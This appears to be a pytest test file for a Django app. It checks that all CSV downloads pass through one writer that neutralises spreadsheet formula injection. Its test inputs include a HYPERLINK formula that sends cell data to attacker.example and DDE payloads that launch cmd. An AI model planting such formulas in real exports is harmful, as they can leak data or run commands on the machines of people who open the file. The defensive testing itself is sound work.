"""Every CSV download goes through one writer, which keeps a spreadsheet from reading a cell
as a formula (OWASP's rule for CSV injection: =, +, -, @, tab and carriage return)."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

import corridor
from corridor.lib.exports import csv_writer, neutralise
from corridor.organisations.models import Organisation
from corridor.plans.models import Action
from corridor.projects.models import Programme

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Quokka report")'


def csv_rows(client, url: str, **params) -> list[dict]:
    response = client.get(url, params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+2", "'=1+2"),
        ("+31 20 555 0100", "'+31 20 555 0100"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        (HYPERLINK, "'" + HYPERLINK),
        ("Klaipėda = port", "Klaipėda = port"),
        ("", ""),
        ("-2.5", "-2.5"),
        ("-12", "-12"),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(cell, written):
    assert neutralise(cell) == written


def test_the_writer_quotes_as_csv_does_and_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=1+2", 'a "b", c', 4], ["@x", "\r\n-y", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+2", 'a "b", c', "4"],
        ["'@x", "'\r\n-y", ""],
    ]


@pytest.fixture
def own_index(settings, tmp_path):
    """Explore on an index of its own, built after the test has changed the data."""
    from corridor.search.backends import forget_backends
    from corridor.search.sync import rebuild

    settings.SEARCH_INDEX_DIR = tmp_path / "index"
    forget_backends()
    yield rebuild
    forget_backends()


def test_explore_s_export(client, db, own_index):
    Organisation.objects.create(name=HYPERLINK, country_code="LT")
    own_index()
    rows = csv_rows(client, "/explore/export.csv", q="quokka", type="organisation")
    assert [row["title"] for row in rows] == ["'" + HYPERLINK]


def test_the_plans_actions_export(client, db):
    action = Action.objects.filter(plan__country_code="PL").get(number=2)
    action.title = "+cmd|' /C calc'!A0"
    action.save()
    rows = csv_rows(client, "/action-plans/export.csv", country="PL")
    assert "'+cmd|' /C calc'!A0" in [row["title"] for row in rows]
    assert "+cmd|' /C calc'!A0" not in [row["title"] for row in rows]


def test_the_roll_up_by_programme(client, db):
    Programme.objects.filter(slug="interreg-europe-2014-2020").update(name="@SUM(1+1)*cmd")
    (row,) = csv_rows(client, "/indicators/by-programme.csv")
    assert row["name"].startswith("'@SUM(1+1)*cmd")


def test_a_dashboard_s_figures_keep_their_numbers(client, db):
    rows = csv_rows(client, "/indicators/project/interventures/export.csv")
    assert rows and all(not r["indicator"].startswith("'") for r in rows)
    assert {r["indicator"]: r["achieved"] for r in rows}["learning_events"] == "8"


def test_no_csv_is_written_anywhere_but_through_the_one_writer():
    """A download that wrote its own csv.writer would miss the neutralising."""
    src = Path(corridor.__file__).parent
    writers = {
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text())
    }
    assert writers == {"lib/exports.py"}
